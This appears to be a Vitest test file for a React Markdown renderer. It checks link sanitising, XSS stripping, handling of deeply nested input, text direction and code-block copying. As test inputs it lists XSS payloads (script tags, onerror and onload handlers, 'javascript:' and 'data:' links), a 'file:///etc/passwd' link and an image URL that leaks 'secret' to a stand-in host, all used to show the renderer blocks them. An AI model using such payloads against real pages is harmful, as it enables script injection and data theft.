// @vitest-environment happy-dom

import { act } from "react";
import { createRoot } from "react-dom/client";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test, vi } from "vitest";
import { safeLink } from "./links";
import { Markdown } from "./Markdown";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

test("only web and mail addresses become links", () => {
  expect(safeLink("https://example.org/a?b")).toBe("https://example.org/a?b");
  expect(safeLink("mailto:ada@example.org")).toBe("mailto:ada@example.org");
  const refused = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
  ];
  for (const address of [...refused, "/relative", "//evil.test", "#x", "", undefined])
    expect(safeLink(address)).toBeNull();
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "![](https://evil.test/?q=secret)",
  "![x](https://evil.test/a.png 'title')",
  "[![x](https://evil.test/a.png)](javascript:alert(1))",
  "<iframe src=https://evil.test></iframe>",
  "<style>@import 'https://evil.test'</style>",
])("nothing in a text runs or is fetched: %s", (text) => {
  const page = new DOMParser().parseFromString(html(text), "text/html");
  expect(page.querySelectorAll("script, img, iframe, style, object, link, [onerror], [onload]")).toHaveLength(0);
  for (const link of page.querySelectorAll("a")) {
    expect(link.getAttribute("href")).toMatch(/^https:/);
    expect(link.getAttribute("rel")).toContain("noopener");
  }
});

test.each([
  ["lists", "- ".repeat(2000)],
  ["quotations", ">".repeat(10_000)],
  ["lists below each other", Array.from({ length: 200 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
  ["emphases", "*a ".repeat(3000) + " b*".repeat(3000)],
  ["emphases in a word", `${"*".repeat(5000)}a${"*".repeat(5000)}`],
  ["underlines", "_a ".repeat(3000) + "_".repeat(3000)],
])("nested %s are shown as plain text", (_, text) => {
  expect(html(text)).toContain("<pre");
});

test("common Markdown is rendered", () => {
  const shown = html("**bold** and [a link](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  for (const part of ["<strong>bold</strong>", 'href="https://example.org/"', "<td>1</td>"])
    expect(shown).toContain(part);
  expect(html("# title")).toContain('<h3 dir="auto">title</h3>');
  expect(html(`${"- item with **bold** and a_snake_name\n".repeat(400)}`)).toContain("<strong>");
});

test("each part of a text has the direction of its language, and code has none", () => {
  const shown = html("مرحبا\n\n- أول\n\n> اقتباس\n\n| الاسم |\n|---|\n| علي |\n\n```\nx\n```");
  expect(shown.match(/<[a-z0-9]+[^>]* dir="auto"/g)?.map((tag) => tag.split(/[< ]/)[1])).toEqual([
    "p",
    "ul",
    "blockquote",
    "div",
  ]);
});

test("a code block shows its language, also while it streams, and is copied unchanged", async () => {
  expect(html("```python title=x\nprint(1)")).toContain(">python<");
  expect(html("```python\nprint(1)\n```")).toMatch(/>python<.*<code class="language-python">print\(1\)/s);
  expect(html("    indented")).toContain(">Code<");
  const copied: string[] = [];
  vi.stubGlobal("IS_REACT_ACT_ENVIRONMENT", true);
  vi.stubGlobal("navigator", { clipboard: { writeText: async (text: string) => void copied.push(text) } });
  const box = document.body.appendChild(document.createElement("div"));
  act(() => createRoot(box).render(<Markdown text={"```\n<b>\n\n  two\n```"} />));
  await act(async () => box.querySelector("button")?.click());
  expect(copied).toEqual(["<b>\n\n  two"]);
  vi.unstubAllGlobals();
});
